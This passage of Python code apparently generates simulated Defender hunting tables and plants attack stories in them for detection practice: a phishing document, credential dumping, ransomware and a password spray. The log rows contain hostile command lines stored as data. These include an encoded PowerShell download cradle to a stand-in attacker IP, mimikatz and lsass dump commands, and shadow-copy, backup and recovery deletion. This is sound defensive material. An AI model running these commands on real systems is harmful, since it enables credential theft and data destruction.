            "NetworkAdapterType": "'Ethernet'", "NetworkAdapterVendor": "'Intel Corporation'",
            "ConnectedNetworks": "json_array(json_object('Name', 'corp.contoso.local', 'Category', 'Domain', "
                                 "'IsConnectedToInternet', TRUE))",
            "DnsAddresses": "json_array('10.1.10.5', '10.1.10.6')", "DefaultGateways": "json_array('10.1.10.1')",
            "IPAddresses":
                "json_array(json_object('IPAddress', d.LocalIP, 'SubnetPrefix', 24, 'AddressType', 'Private'))",
        },
        "DeviceFileCertificateInfo": {
            "IsSigned": "TRUE",
            "SignatureType": "'Embedded'",
            "Signer": "q.Company",
            "Issuer": "'Microsoft Code Signing PCA 2011'",
            "SHA1": "q.SHA1",
            "SignerHash": "substr(sha256(q.Company), 1, 40)",
            "IssuerHash": "substr(sha256('pca'), 1, 40)",
            "CertificateSerialNumber": "substr(md5(q.Company), 1, 20)", "IsTrusted": "TRUE",
            "IsRootSignerMicrosoft": "starts_with(q.Company, 'Microsoft')",
            "CertificateCreationTime": "(b.ts - INTERVAL 400 DAY)",
            "CertificateExpirationTime": "(b.ts + INTERVAL 300 DAY)",
            "CertificateCountersignatureTime": "(b.ts - INTERVAL 10 DAY)",
        },
        "DeviceTvmSoftwareVulnerabilities": {
            "OSPlatform": "d.OSPlatform", "OSVersion": "d.OSVersion", "OSArchitecture": "'x64'",
            "SoftwareVendor": _pick(["microsoft", "google", "mozilla", "oracle", "solarwinds"], "sv"),
            "SoftwareName": _pick(["windows_11", "chrome", "firefox", "jre", "orion_platform"], "sv"),
            "SoftwareVersion": _pick(["10.0.22631.3880", "126.0.6478.127", "127.0", "8.0.411", "2020.2.1"], "sv"),
            "CveId": "concat('CVE-202', (hash(b.i, b.seed, 'cve') % 5), '-', 1000 + hash(b.i, b.seed, 'cve2') % 40000)",
            "VulnerabilitySeverityLevel": _pick(["Low", "Medium", "High", "Critical"], "sev"),
            "RecommendedSecurityUpdate": "'November 2026 Security Updates'",
            "RecommendedSecurityUpdateId": "'KB5046617'",
            "CveTags": "'[]'::JSON", "CveMitigationStatus": "''", "AadDeviceId": "d.AadDeviceId",
        },
        "DeviceTvmSecureConfigurationAssessment": {
            # scid-2010: Defender AV mode (Context [["0"]] active, "1" passive, "4" EDR blocked); scid-2011: AV
            # signature/engine/update-time/product versions; scid-91: an ASR rule setting.
            "OSPlatform": "d.OSPlatform",
            "ConfigurationId": _pick(["scid-2010", "scid-2011", "scid-91"], "scid"),
            "ConfigurationCategory": "'Security controls'",
            "ConfigurationSubcategory": _pick(["Antivirus", "Antivirus", "Attack Surface Reduction"], "scid"),
            "ConfigurationImpact": "(1 + hash(b.i, b.seed, 'imp') % 9)::DOUBLE",
            "IsApplicable": "TRUE", "IsCompliant": "(hash(b.i, b.seed, 'cmp') % 5 <> 0)",
            "IsExpectedUserImpact": "FALSE",
            "Context": "(CASE " + _pick(["scid-2010", "scid-2011", "scid-91"], "scid")
                       + " WHEN 'scid-2010' THEN json_array(json_array(" + _pick(["0", "0", "1", "4"], "avm") + "))"
                       " WHEN 'scid-2011' THEN json_array(json_array('1.421.1203.0', '1.1.24090.11', "
                       "strftime(b.ts - INTERVAL 1 DAY, '%m/%d/%Y %H:%M:%S'), '4.18.24090.11'))"
                       " ELSE json_array() END)",
        },
        "EmailPostDeliveryEvents": {
            "Action": _pick(["Soft delete", "Moved to junk folder", "Hard delete"], "act"),
            "ActionTrigger": _pick(["SpecialAction", "AdminAction", "Zap"], "trig"), "ActionResult": "'Success'",
            "DeliveryLocation": "'Junk folder'", "ThreatTypes": "'Phish'",
        },
        "UrlClickEvents": {
            "Url": "concat('https://', " + _pick(URLS, "url") + ", '/', hash(b.i, b.seed, 'path') % 10000)",
            "AccountUpn": "u.Upn", "Workload": _pick(["Email", "Teams", "Office"], "wl"),
            "IsClickedThrough": "(hash(b.i, b.seed, 'ct') % 4 = 0)", "UrlChain": "'[]'", "ThreatTypes": "''",
        },
        "CloudAppEvents": {
            "Application": _pick(["Microsoft Exchange Online", "Microsoft SharePoint Online", "Microsoft Teams",
                                  "Microsoft OneDrive for Business", "Office 365"], "app"),
            "ApplicationId":
                _list([20893, 20892, 28375, 15600, 11161]) + "[1 + (hash(b.i, b.seed, 'app') % 5)::INTEGER]",
            "AccountId": "u.ObjectId", "IsAdminOperation": "(hash(b.i, b.seed, 'adm') % 20 = 0)",
            "DeviceType": _pick(["Desktop", "Mobile", "Unknown"], "dt"),
            "OSPlatform": _pick(["Windows", "iOS", "Android", "MacOS"], "os"),
            "IsAnonymousProxy": "FALSE", "UserAgent": "'Mozilla/5.0 (Windows NT 10.0; Win64; x64)'",
            "ActivityType": _pick(["Download", "Access", "Upload", "Send", "Edit"], "at"),
            "ActivityObjects":
                "json_array(json_object('Type', 'File', 'Name', " + _pick([f for f, _ in DOCUMENTS], "doc") + "))",
            "ObjectName": _pick([f for f, _ in DOCUMENTS], "doc"), "ObjectType": "'File'",
            "ObjectId":
                "concat('https://contoso.sharepoint.com/sites/team/', " + _pick([f for f, _ in DOCUMENTS], "doc")
                + ")",
            "AccountType": "'Regular'", "IsExternalUser": "FALSE", "IsImpersonated": "FALSE",
            "IPTags": "'[]'::JSON", "IPCategory": "''", "UserAgentTags": "'[]'::JSON",
            "RawEventData":
                "json_object('Operation', " + _pick(ACTIONS["CloudAppEvents"], "action")
                + ", 'UserId', u.Upn, 'ClientIP', " + _public_ip("ipaddr") + ")",
            "AdditionalFields": "'{}'::JSON", "LastSeenForUser": "'{}'::JSON", "UncommonForUser": "'[]'::JSON",
            "AuditSource": "'Defender for Cloud Apps access control'", "SessionData": "'{}'::JSON", "OAuthAppId": "''",
        },
    }
    expr = per_table.get(table, {}).get(col) or by_name.get(col)
    if expr is None:
        expr = {"datetime": "b.ts", "long": "0", "int": "0", "bool": "FALSE", "real": "0.0",
                "dynamic": "'{}'::JSON"}.get(kind, "''")
    return f"CAST({expr} AS {DUCKDB_TYPE[kind]})"


def physical(table: str) -> str:
    """Where rows of *table* are stored: bulk tables keep only their planted rows, in ``_planted_<table>``."""
    return f"_planted_{table}" if table in EVENT_TABLES else table


def create_tables(con) -> None:
    for table, cols in TABLES.items():
        ddl = ", ".join(f'"{c}" {DUCKDB_TYPE[k]}' for c, k in cols)
        con.execute(f'CREATE OR REPLACE TABLE "{physical(table)}" ({ddl})')


def fill_bulk(con, dims: Dimensions, table: str, rows: int, now: dt.datetime, seed: int) -> None:
    cols = TABLES[table]
    key = "Email" if table in ("EmailEvents", "EmailAttachmentInfo", "EmailUrlInfo") else table
    span_us = 30 * 86400 * 1_000_000 - 3_600_000_000
    select = ", ".join(f"{_column_expr(table, c, k, dims)} AS \"{c}\"" for c, k in cols)
    nd, nu, np_ = len(dims.devices), len(dims.users), len(dims.processes)
    windows = ", ".join(str(d["idx"]) for d in dims.devices if d["OSPlatform"].startswith("Windows"))
    # A view: rows are computed when a query reads them (only the columns it reads), so a million rows per
    # table cost no build time and no memory; the planted story rows are appended from a small real table.
    con.execute(f"""
        CREATE OR REPLACE VIEW "{table}" AS
        WITH b AS (
            SELECT i, {seed} AS seed, hash(i, {seed}, {_q(key)}) AS h,
                   TIMESTAMP '{now.strftime('%Y-%m-%d %H:%M:%S.%f')}'
                     - to_microseconds((hash(i, {seed}, {_q(key)}, 'ts') % {span_us})::BIGINT) AS ts
            FROM range({int(rows)}) r(i))
        SELECT {select}
        FROM b
        JOIN _dev d ON d.idx = ([{windows}][1 + (b.h % {len(windows.split(','))})::INTEGER]
                                     * (CASE WHEN b.h % 10 < 8 THEN 1 ELSE 0 END)
                                     + (CASE WHEN b.h % 10 < 8 THEN 0 ELSE (b.h >> 8) % {nd} END))
        JOIN _usr u ON u.idx = (b.h >> 16) % {nu}
        JOIN _proc p ON p.idx = (b.h >> 24) % {np_}
        JOIN _proc q ON q.idx = (b.h >> 32) % {np_}
        UNION ALL SELECT * FROM "{physical(table)}"
    """)


def fill_device_info(con, dims: Dimensions, rows: int, now: dt.datetime) -> None:
    hours = max(1, min(720, rows // len(dims.devices)))
    values = []
    for d in dims.devices:
        users = json.dumps([{"UserName": dims.users[d["idx"] % len(dims.users)]["AccountName"],
                             "DomainName": dims.ad_domain,
                             "Sid": dims.users[d["idx"] % len(dims.users)]["Sid"]}])
        values.append(d | {"LoggedOnUsers": users})
    cols = TABLES["DeviceInfo"]
    base = {c: ("''" if k == "string" else {"long": "0", "bool": "FALSE", "datetime": "NULL"}.get(k, "NULL"))
            for c, k in cols}
    base.update({
        "DeviceId": "d.DeviceId", "DeviceName": "d.DeviceName", "PublicIP": "d.PublicIP",
        "OSPlatform": "d.OSPlatform", "OSVersion": "d.OSVersion", "OSBuild": "d.OSBuild",
        "MachineGroup": "d.MachineGroup", "DeviceType": "d.DeviceType", "AadDeviceId": "d.AadDeviceId",
        "LoggedOnUsers": "d.LoggedOnUsers", "ClientVersion": "'10.8760.22621.1'",
        "OSArchitecture": "'64-bit'", "IsAzureADJoined": "starts_with(d.OSPlatform, 'Windows1')",
        "JoinType": "CASE WHEN starts_with(d.OSPlatform, 'Windows1') THEN 'AAD Joined' ELSE 'Domain Joined' END",
        "OnboardingStatus": "'Onboarded'", "DeviceCategory": "'Endpoint'", "SensorHealthState": "'Active'",
        "ExposureLevel": "['Low', 'Medium', 'High'][1 + (hash(d.idx, h.n) % 3)::INTEGER]",
        "AssetValue": "CASE WHEN d.DeviceType = 'Server' THEN 'High' ELSE 'Normal' END",
        "Timestamp": f"TIMESTAMP '{now.strftime('%Y-%m-%d %H:%M:%S')}' - to_hours(h.n) - to_seconds(d.idx * 7)",
        "ReportId": "(h.n * 100 + d.idx)", "IsInternetFacing": "starts_with(d.Short, 'lnx-web')",
        "Vendor": "CASE WHEN d.OSPlatform = 'macOS' THEN 'Apple Inc.' ELSE 'Dell Inc.' END",
        "Model": "CASE WHEN d.OSPlatform = 'macOS' THEN 'MacBook Pro' ELSE 'Latitude 7440' END",
        "ConnectivityType": "'Streamlined'", "DeviceManualTags": "'[]'", "DeviceDynamicTags": "'[]'",
        "IsExcluded": "FALSE", "AdditionalFields": "'{}'",
    })
    cols_sql = ", ".join(f'CAST({base[c]} AS {DUCKDB_TYPE[k]})' for c, k in cols)
    keys = list(values[0])
    rows_sql = ", ".join("(" + ", ".join(_q(v[c]) for c in keys) + ")" for v in values)
    con.execute(f"""
        INSERT INTO "DeviceInfo"
        SELECT {cols_sql}
        FROM (VALUES {rows_sql}) d({", ".join(keys)}), range({hours}) h(n)
    """)


def fill_identity_info(con, dims: Dimensions, now: dt.datetime) -> None:
    for day in range(0, 30, 3):
        ts = now - dt.timedelta(days=day, hours=2)
        for u in dims.users:
            insert_row(con, "IdentityInfo", {
                "Timestamp": ts, "ReportId": _guid(dims.tenant_id, "ii", day, u["idx"]),
                "AccountObjectId": u["ObjectId"], "AccountUpn": u["Upn"], "OnPremSid": u["Sid"],
                "AccountDisplayName": u["DisplayName"], "AccountName": u["AccountName"],
                "AccountDomain": dims.domain, "Type": "User",
                "DistinguishedName": f"CN={u['DisplayName']},OU=Users,DC={dims.ad_domain.lower()},DC=local",
                "GivenName": u["DisplayName"].split()[0], "Surname": u["DisplayName"].split()[-1],
                "Department": u["Department"], "JobTitle": u["JobTitle"], "EmailAddress": u["Upn"],
                "IsAccountEnabled": True, "City": "Redmond", "Country": "US",
                "CreatedDateTime": now - dt.timedelta(days=400 + u["idx"]), "SourceProvider": "AzureActiveDirectory",
                "TenantId": dims.tenant_id, "RiskLevel": "Low" if u["AccountName"] != "megan.bowen" else "High",
                "Tags": [], "AssignedRoles": ["Global Administrator"] if u["AccountName"].startswith("adm-") else [],
                "OtherMailAddresses": [],
            })


def insert_row(con, table: str, values: dict) -> None:
    cols = dict(TABLES[table])
    names = [n for n in values if n in cols]  # story rows share dicts across tables: keep this table's columns
    params = []
    for n in names:
        v = values[n]
        if cols[n] == "dynamic" and not isinstance(v, str):
            v = json.dumps(v)
        if isinstance(v, dt.datetime):
            v = v.astimezone(UTC).replace(tzinfo=None)
        params.append(v)
    placeholders = ", ".join(f"CAST(? AS {DUCKDB_TYPE[cols[n]]}) AS \"{n}\"" for n in names)
    con.execute(f'INSERT INTO "{physical(table)}" BY NAME SELECT {placeholders}', params)


# --- attack stories ------------------------------------------------------------------------------------------

def story_times(anchor: dt.datetime) -> dict[str, dt.datetime]:
    """Start time of each planted story, relative to the tenant's anchor time."""
    phish = (anchor - dt.timedelta(days=4)).replace(hour=9, minute=12, second=31, microsecond=512000)
    return {
        "phish": phish,
        "creds": phish + dt.timedelta(minutes=45),
        "ransom": (anchor - dt.timedelta(days=3)).replace(hour=2, minute=17, second=5, microsecond=250000),
        "spray": (anchor - dt.timedelta(days=6)).replace(hour=22, minute=40, second=0, microsecond=0),
    }


def _proc_cols(prefix: str, proc: dict, cmd: str | None = None) -> dict:
    """FileName-style columns of a process, under a prefix ("" or "InitiatingProcess")."""
    out = {
        f"{prefix}FileName": proc["FileName"], f"{prefix}FolderPath": proc["FolderPath"],
        f"{prefix}SHA1": proc["SHA1"], f"{prefix}SHA256": proc["SHA256"], f"{prefix}MD5": proc["MD5"],
        f"{prefix}CommandLine" if prefix else "ProcessCommandLine": cmd or proc["CommandLine"],
    }
    return out


def plant_stories(con, dims: Dimensions, anchor: dt.datetime) -> None:
    t = story_times(anchor)
    ws = dims.device("ws-fin-07")
    srv = dims.device("srv-file-02")
    megan = dims.user("megan.bowen")
    acct = {"AccountName": megan["AccountName"], "AccountDomain": megan["AccountDomain"],
            "AccountSid": megan["Sid"], "AccountUpn": megan["Upn"], "AccountObjectId": megan["ObjectId"]}
    ip_acct = {f"InitiatingProcess{k}": v for k, v in acct.items()}
    dev = {"DeviceId": ws["DeviceId"], "DeviceName": ws["DeviceName"]}
    outlook, word, ps = dims.process("OUTLOOK.EXE"), dims.process("WINWORD.EXE"), dims.process("powershell.exe")
    cmd = dims.process("cmd.exe")
    doc_sha256 = _h("phish-doc", dims.tenant_id)
    msg_id = _guid(dims.tenant_id, "phish-mail")
    doc_path = (f"C:\\Users\\{megan['AccountName']}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\"
                "Content.Outlook\\Q7X2M1PZ\\INV-4471.docm")
    t0 = t["phish"]
    sender = "billing@northwind-invoices.com"
    insert_row(con, "EmailEvents", {
        "Timestamp": t0, "NetworkMessageId": msg_id, "InternetMessageId": f"<{msg_id}@northwind-invoices.com>",
        "SenderMailFromAddress": sender, "SenderFromAddress": sender, "SenderDisplayName": "Northwind Billing",
        "SenderMailFromDomain": "northwind-invoices.com", "SenderFromDomain": "northwind-invoices.com",
        "SenderIPv4": "198.51.100.77", "RecipientEmailAddress": megan["Upn"], "RecipientObjectId": megan["ObjectId"],
        "Subject": "Overdue invoice INV-4471", "EmailDirection": "Inbound", "DeliveryAction": "Delivered",
        "DeliveryLocation": "Inbox/folder", "LatestDeliveryAction": "Delivered",
        "LatestDeliveryLocation": "Inbox/folder", "AttachmentCount": 1, "UrlCount": 1, "EmailLanguage": "en",
        "AuthenticationDetails": '{"SPF":"pass","DKIM":"none","DMARC":"none","CompAuth":"softpass"}',
        "ReportId": _guid(dims.tenant_id, "phish-report"), "ThreatTypes": "", "BulkComplaintLevel": 0,
    })
    insert_row(con, "EmailAttachmentInfo", {
        "Timestamp": t0, "NetworkMessageId": msg_id, "SenderFromAddress": sender,
        "SenderDisplayName": "Northwind Billing", "RecipientEmailAddress": megan["Upn"],
        "RecipientObjectId": megan["ObjectId"], "FileName": "INV-4471.docm", "FileType": "docm",
        "SHA256": doc_sha256, "FileSize": 48213, "ThreatTypes": "", "ReportId": _guid(dims.tenant_id, "phish-att"),
    })
    insert_row(con, "EmailUrlInfo", {
        "Timestamp": t0, "NetworkMessageId": msg_id, "Url": "https://northwind-invoices.com/pay/4471",
        "UrlDomain": "northwind-invoices.com", "UrlLocation": "Body", "ReportId": _guid(dims.tenant_id, "phish-url"),
    })
    insert_row(con, "DeviceFileEvents", dev | ip_acct | _proc_cols("InitiatingProcess", outlook) | {
        "Timestamp": t0 + dt.timedelta(minutes=2), "ActionType": "FileCreated", "FileName": "INV-4471.docm",
        "FolderPath": doc_path, "SHA256": doc_sha256, "SHA1": doc_sha256[:40], "MD5": doc_sha256[:32],
        "FileSize": 48213, "ReportId": 910001,
    })
    insert_row(con, "DeviceEvents", dev | ip_acct | _proc_cols("InitiatingProcess", word) | {
        "Timestamp": t0 + dt.timedelta(minutes=3, seconds=10), "ActionType": "AsrOfficeChildProcessAudited",
        "FileName": "powershell.exe", "FolderPath": ps["FolderPath"], "SHA256": ps["SHA256"],
        "ProcessCommandLine": f"powershell.exe -nop -w hidden -enc {CRADLE_B64}", "ReportId": 910002,
        "AdditionalFields": {"IsAudit": True},
    })
    insert_row(con, "DeviceProcessEvents", dev | acct | ip_acct | _proc_cols("", word,
               f'"WINWORD.EXE" /n "{doc_path}"') | _proc_cols("InitiatingProcess", outlook) | {
        "Timestamp": t0 + dt.timedelta(minutes=3), "ActionType": "ProcessCreated", "ProcessId": 7312,
        "InitiatingProcessId": 5120, "InitiatingProcessParentFileName": "explorer.exe",
        "ProcessCreationTime": t0 + dt.timedelta(minutes=3), "ReportId": 910003,
        "ProcessVersionInfoCompanyName": "Microsoft Corporation", "ProcessIntegrityLevel": "Medium",
    })
    cradle_cmd = f"powershell.exe -nop -w hidden -enc {CRADLE_B64}"
    insert_row(con, "DeviceProcessEvents", dev | acct | ip_acct | _proc_cols("", ps, cradle_cmd)
               | _proc_cols("InitiatingProcess", word, f'"WINWORD.EXE" /n "{doc_path}"') | {
        "Timestamp": t0 + dt.timedelta(minutes=4), "ActionType": "ProcessCreated", "ProcessId": 8840,
        "InitiatingProcessId": 7312, "InitiatingProcessParentFileName": "OUTLOOK.EXE",
        "ProcessCreationTime": t0 + dt.timedelta(minutes=4), "ReportId": 910004,
        "ProcessVersionInfoCompanyName": "Microsoft Corporation", "ProcessIntegrityLevel": "Medium",
        "ProcessVersionInfoOriginalFileName": "PowerShell.EXE",
    })
    insert_row(con, "DeviceNetworkEvents", dev | ip_acct | _proc_cols("InitiatingProcess", ps, cradle_cmd) | {
        "Timestamp": t0 + dt.timedelta(minutes=4, seconds=5), "ActionType": "ConnectionSuccess",
        "RemoteIP": ATTACKER_IP, "RemotePort": 80, "RemoteUrl": f"http://{ATTACKER_IP}/a.ps1",
        "LocalIP": ws["LocalIP"], "LocalPort": 50122, "Protocol": "Tcp", "LocalIPType": "Private",
        "RemoteIPType": "Public", "InitiatingProcessId": 8840, "ReportId": 910005,
    })
    insert_row(con, "DeviceEvents", dev | ip_acct | _proc_cols("InitiatingProcess", ps, cradle_cmd) | {
        "Timestamp": t0 + dt.timedelta(minutes=4, seconds=6), "ActionType": "PowerShellCommand",
        "AdditionalFields": {"Command": "Invoke-Expression"}, "ReportId": 910006,
    })
    # credential dumping
    t1 = t["creds"]
    mimi = {"FileName": "mimikatz.exe", "FolderPath": "C:\\Users\\Public\\mimikatz.exe",
            "SHA1": _h("mimikatz", n=40), "SHA256": _h("mimikatz-256"), "MD5": _h("mimikatz-md5", n=32)}
    insert_row(con, "DeviceFileEvents", dev | ip_acct | _proc_cols("InitiatingProcess", ps, cradle_cmd) | mimi | {
        "Timestamp": t1 - dt.timedelta(minutes=1), "ActionType": "FileCreated", "FileSize": 1250056,
        "FileOriginUrl": f"http://{ATTACKER_IP}/m.exe", "FileOriginIP": ATTACKER_IP, "ReportId": 910010,
    })
    mimi_cmd = 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'
    insert_row(con, "DeviceProcessEvents", dev | acct | ip_acct | _proc_cols("InitiatingProcess", ps, cradle_cmd)
               | {k: v for k, v in mimi.items()} | {
        "ProcessCommandLine": mimi_cmd, "Timestamp": t1, "ActionType": "ProcessCreated", "ProcessId": 9104,
        "InitiatingProcessId": 8840, "InitiatingProcessParentFileName": "WINWORD.EXE", "FileSize": 1250056,
        "ProcessCreationTime": t1, "ProcessIntegrityLevel": "High", "ReportId": 910011,
        "ProcessVersionInfoCompanyName": "gentilkiwi (Benjamin DELPY)", "ProcessVersionInfoProductName": "mimikatz",
        "ProcessVersionInfoOriginalFileName": "mimikatz.exe",
    })
    insert_row(con, "DeviceEvents", dev | ip_acct | {
        "InitiatingProcessFileName": "mimikatz.exe", "InitiatingProcessCommandLine": mimi_cmd,
        "InitiatingProcessSHA256": mimi["SHA256"], "InitiatingProcessId": 9104,
        "Timestamp": t1 + dt.timedelta(seconds=2), "ActionType": "OpenProcessApiCall", "FileName": "lsass.exe",
        "FolderPath": "C:\\Windows\\System32\\lsass.exe", "ProcessId": 624, "ReportId": 910012,
        "AdditionalFields": {"DesiredAccess": 5136},
    })
    rundll = dims.process("rundll32.exe")
    dump_cmd = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\lsass.dmp full"
    insert_row(con, "DeviceProcessEvents", dev | acct | ip_acct | _proc_cols("", rundll, dump_cmd)
               | _proc_cols("InitiatingProcess", ps, cradle_cmd) | {
        "Timestamp": t1 + dt.timedelta(minutes=3), "ActionType": "ProcessCreated", "ProcessId": 9220,
        "InitiatingProcessId": 8840, "ProcessCreationTime": t1 + dt.timedelta(minutes=3), "ReportId": 910013,
        "ProcessIntegrityLevel": "High",
    })
    insert_row(con, "DeviceFileEvents", dev | ip_acct | _proc_cols("InitiatingProcess", rundll, dump_cmd) | {
        "Timestamp": t1 + dt.timedelta(minutes=3, seconds=4), "ActionType": "FileCreated", "FileName": "lsass.dmp",
        "FolderPath": "C:\\Users\\Public\\lsass.dmp", "FileSize": 48_000_000, "ReportId": 910014,
    })
    # ransomware on the file server
    t2 = t["ransom"]
    sdev = {"DeviceId": srv["DeviceId"], "DeviceName": srv["DeviceName"]}
    insert_row(con, "DeviceLogonEvents", sdev | acct | {
        "Timestamp": t2 - dt.timedelta(minutes=5), "ActionType": "LogonSuccess", "LogonType": "RemoteInteractive",
        "Protocol": "Negotiate", "RemoteDeviceName": ws["DeviceName"], "RemoteIP": ws["LocalIP"],
        "RemoteIPType": "Private", "RemotePort": 50331, "IsLocalAdmin": True, "LogonId": 5553311, "ReportId": 920001,
    })
    locker = {"FileName": "locker.exe", "FolderPath": "C:\\ProgramData\\locker.exe", "SHA1": _h("locker", n=40),
              "SHA256": _h("locker-256"), "MD5": _h("locker-md5", n=32)}
    steps = [
        ("cmd.exe", cmd["FolderPath"], 'cmd.exe /c "C:\\ProgramData\\locker.exe --encrypt D:\\Shares"', 0),
        ("locker.exe", locker["FolderPath"], "C:\\ProgramData\\locker.exe --encrypt D:\\Shares", 1),
        ("vssadmin.exe", "C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", 2),
        ("WMIC.exe", "C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic shadowcopy delete", 3),
        ("wbadmin.exe", "C:\\Windows\\System32\\wbadmin.exe", "wbadmin delete catalog -quiet", 4),
        ("bcdedit.exe", "C:\\Windows\\System32\\bcdedit.exe", "bcdedit /set {default} recoveryenabled No", 5),
        ("bcdedit.exe", "C:\\Windows\\System32\\bcdedit.exe",
         "bcdedit /set {default} bootstatuspolicy ignoreallfailures", 6),
    ]
    for k, (fname, path, line, offset) in enumerate(steps):
        parent = ("explorer.exe", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE") if k == 0 else \
            ("cmd.exe", cmd["FolderPath"], steps[0][2]) if k == 1 else \
            ("locker.exe", locker["FolderPath"], steps[1][2])
        insert_row(con, "DeviceProcessEvents", sdev | acct | ip_acct | {
            "Timestamp": t2 + dt.timedelta(seconds=20 * offset), "ActionType": "ProcessCreated",
            "FileName": fname, "FolderPath": path, "ProcessCommandLine": line,
            "SHA256": locker["SHA256"] if fname == "locker.exe" else _h("sha256", fname),
            "SHA1": locker["SHA1"] if fname == "locker.exe" else _h("sha1", fname, n=40),
            "ProcessId": 4100 + k, "InitiatingProcessId": 4099 + k, "InitiatingProcessFileName": parent[0],
            "InitiatingProcessFolderPath": parent[1], "InitiatingProcessCommandLine": parent[2],
            "ProcessCreationTime": t2 + dt.timedelta(seconds=20 * offset), "ProcessIntegrityLevel": "High",
            "InitiatingProcessIntegrityLevel": "High", "ReportId": 920010 + k,
        })
    for k in range(40):
        name = ["Budget", "Payroll", "Contract", "Forecast", "Customers"][k % 5] + f"-{2020 + k % 6}-{k:02d}.xlsx"
        insert_row(con, "DeviceFileEvents", sdev | ip_acct | {
            "InitiatingProcessFileName": "locker.exe", "InitiatingProcessFolderPath": locker["FolderPath"],
            "InitiatingProcessSHA256": locker["SHA256"], "InitiatingProcessCommandLine": steps[1][2],
            "Timestamp": t2 + dt.timedelta(minutes=3, seconds=3 * k), "ActionType": "FileRenamed",
            "FileName": f"{name}.locked", "FolderPath": f"D:\\Shares\\Finance\\{name}.locked",
            "PreviousFileName": name, "PreviousFolderPath": f"D:\\Shares\\Finance\\{name}",
            "FileSize": 20_000 + 137 * k, "ReportId": 920100 + k,
        })
    insert_row(con, "DeviceFileEvents", sdev | ip_acct | {
        "InitiatingProcessFileName": "locker.exe", "InitiatingProcessFolderPath": locker["FolderPath"],
        "InitiatingProcessSHA256": locker["SHA256"], "Timestamp": t2 + dt.timedelta(minutes=6),
        "ActionType": "FileCreated", "FileName": "README_RESTORE_FILES.txt",
        "FolderPath": "D:\\Shares\\Finance\\README_RESTORE_FILES.txt", "FileSize": 1822, "ReportId": 920200,
    })
    # password spray
    t3 = t["spray"]
    for k, u in enumerate(dims.users):
        for attempt in range(3):
            insert_row(con, "IdentityLogonEvents", {
                "Timestamp": t3 + dt.timedelta(seconds=11 * (k * 3 + attempt)), "ActionType": "LogonFailed",
                "Application": "Active Directory", "LogonType": "Credentials Validation", "Protocol": "NTLM",
                "FailureReason": "WrongPassword", "AccountName": u["AccountName"], "AccountDomain": dims.domain,
                "AccountUpn": u["Upn"], "AccountSid": u["Sid"], "AccountObjectId": u["ObjectId"],
                "AccountDisplayName": u["DisplayName"], "DeviceName": "kali", "IPAddress": SPRAY_IP, "Port": 40000 + k,
                "DestinationDeviceName": dims.device("srv-dc-01")["DeviceName"],
                "DestinationIPAddress": dims.device("srv-dc-01")["LocalIP"], "DestinationPort": 445,
                "Location": "Unknown", "Isp": "Example Hosting", "ReportId": _guid(dims.tenant_id, "spray", k, attempt),
                "AdditionalFields": {"Spray": True},
            })


def fill_alerts(con, alerts: list[dict]) -> None:
    """AlertInfo / AlertEvidence rows for the seeded alerts (see incidents.py)."""
    for a in alerts:
        insert_row(con, "AlertInfo", {
            "Timestamp": a["created"], "AlertId": a["id"], "Title": a["title"], "Category": a["category"],
            "Severity": a["severity"].capitalize(), "ServiceSource": a["serviceSourceName"],
            "DetectionSource": a["detectionSourceName"], "AttackTechniques": json.dumps(a["techniqueNames"]),
        })
        for ev in a["evidence"]:
            row = {"Timestamp": a["created"], "AlertId": a["id"], "Title": a["title"],
                   "Categories": json.dumps([a["category"]]), "AttackTechniques": json.dumps(a["techniqueNames"]),
                   "ServiceSource": a["serviceSourceName"], "DetectionSource": a["detectionSourceName"],
                   "Severity": a["severity"].capitalize()}
            row.update({k: v for k, v in ev.items() if k in dict(TABLES["AlertEvidence"])})
            insert_row(con, "AlertEvidence", row)


def build(con, tenant_id: str, domain: str, rows: int, anchor: dt.datetime, alerts: list[dict]) -> Dimensions:
    """Create and fill every table on *con* for one tenant."""
    seed = seed_of(tenant_id)
    dims = Dimensions(tenant_id, domain)
    create_tables(con)
    dims.create_lookup_tables(con)
    for table in EVENT_TABLES:
        fill_bulk(con, dims, table, rows, anchor, seed)
    fill_device_info(con, dims, rows, anchor)
    fill_identity_info(con, dims, anchor)
    plant_stories(con, dims, anchor)
    fill_alerts(con, alerts)
    return dims
